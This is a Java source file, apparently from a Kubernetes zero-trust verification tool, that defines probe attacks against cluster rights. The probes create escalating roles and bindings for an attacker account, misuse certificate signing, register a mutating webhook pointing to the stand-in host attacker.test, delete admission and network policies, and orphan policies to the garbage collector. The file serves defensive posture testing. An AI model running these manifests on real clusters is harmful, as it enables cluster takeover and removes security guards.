package io.zta.verify.probe;

import io.fabric8.kubernetes.api.model.OwnerReferenceBuilder;
import io.fabric8.kubernetes.api.model.networking.v1.NetworkPolicyBuilder;
import java.util.ArrayList;
import java.util.List;

/** Attacks on who may do what: roles, certificates, admission, and the posture's own objects. */
final class RightsAttacks {
    private final Attacker attacker;
    private final Arena arena;
    private final List<Attack> attacks = new ArrayList<>();

    private RightsAttacks(Attacker attacker) {
        this.attacker = attacker;
        this.arena = attacker.arena;
    }

    static List<Attack> of(Attacker attacker) {
        RightsAttacks rights = new RightsAttacks(attacker);
        rights.roles();
        rights.certificates();
        rights.admission();
        rights.policies();
        return rights.attacks;
    }

    private void creates(String bypass, String what, String needs, String yaml) {
        attacks.add(Attack.request(bypass, what, needs, () -> attacker.creates(yaml)));
    }

    private void roles() {
        creates("API-rbac", "a role that lets enter", "create and escalate on roles", """
                apiVersion: rbac.authorization.k8s.io/v1
                kind: Role
                metadata: {name: enter-again, namespace: @NS@}
                rules: [{apiGroups: [zta.io], resources: [containers], verbs: [enter]}]
                """);
        attacks.add(Attack.request(
                        "API-rbac",
                        "a binding to a role that lets enter and was there",
                        "create on rolebindings and bind on that role",
                        () -> attacker.creates("""
                                apiVersion: rbac.authorization.k8s.io/v1
                                kind: RoleBinding
                                metadata: {name: enter-too, namespace: @NS@}
                                roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "enter-@RUN@"}
                                subjects: [{kind: ServiceAccount, name: attacker, namespace: @OUT@}]
                                """))
                .leftTo("whoever may bind a role that lets enter"));
    }

    private void certificates() {
        attacks.add(Attack.staged(
                        "API-csr",
                        "a certificate for another name, asked for, approved and used",
                        "create and approve on certificatesigningrequests",
                        () -> {
                            ClientCertificate asked = ClientCertificate.of(arena.fill("@RUN@") + "-other");
                            return arena.logins
                                    .signed(attacker.client, asked, arena.owner())
                                    .map(mine -> Logins.self(mine).equals(asked.name()))
                                    .orElse(false);
                        })
                .leftTo("whoever may approve certificates for a signer that the API server trusts"));
    }

    private void admission() {
        attacks.add(Attack.request(
                        "API-webhook",
                        "a webhook that mutates pods",
                        "create on mutatingwebhookconfigurations",
                        () -> attacker.creates("""
                                apiVersion: admissionregistration.k8s.io/v1
                                kind: MutatingWebhookConfiguration
                                metadata: {name: "@RUN@"}
                                webhooks:
                                - name: pods.attacker.test
                                  sideEffects: None
                                  failurePolicy: Ignore
                                  admissionReviewVersions: [v1]
                                  clientConfig: {url: "https://attacker.test/"}
                                  namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: @NS@}}
                                  rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods]}]
                                """))
                .leftTo("whoever may write webhook configurations"));
        attacks.add(Attack.request(
                        "API-webhook",
                        "an admission policy removed",
                        "delete on validatingadmissionpolicies",
                        () -> Attacker.does(() -> attacker.client
                                .admissionRegistration()
                                .v1()
                                .validatingAdmissionPolicies()
                                .withName(arena.fill("@RUN@"))
                                .dryRun()
                                .delete()))
                .leftTo("whoever may delete admission policies: none of them guards itself"));
    }

    private void policies() {
        creates("API-policy", "a NetworkPolicy that opens", Attacker.EDIT, """
                apiVersion: networking.k8s.io/v1
                kind: NetworkPolicy
                metadata: {name: opening, namespace: @NS@}
                spec: {podSelector: {}, policyTypes: [Ingress], ingress: [{}]}
                """);
        attacks.add(Attack.request(
                "API-policy",
                "a NetworkPolicy deleted",
                Attacker.EDIT,
                () -> Attacker.does(() -> attacker.client
                        .network()
                        .networkPolicies()
                        .inNamespace(arena.namespace)
                        .withName("someones")
                        .dryRun()
                        .delete())));
        attacks.add(Attack.request(
                "API-gc",
                "a NetworkPolicy orphaned to the collector",
                Attacker.EDIT,
                () -> Attacker.does(() -> attacker.client
                        .network()
                        .networkPolicies()
                        .inNamespace(arena.namespace)
                        .withName("someones")
                        .dryRun()
                        .edit(policy -> new NetworkPolicyBuilder(policy)
                                .editMetadata()
                                .addToOwnerReferences(new OwnerReferenceBuilder()
                                        .withApiVersion("v1")
                                        .withKind("ConfigMap")
                                        .withName("gone")
                                        .withUid("00000000-0000-0000-0000-000000000000")
                                        .build())
                                .endMetadata()
                                .build()))));
    }
}
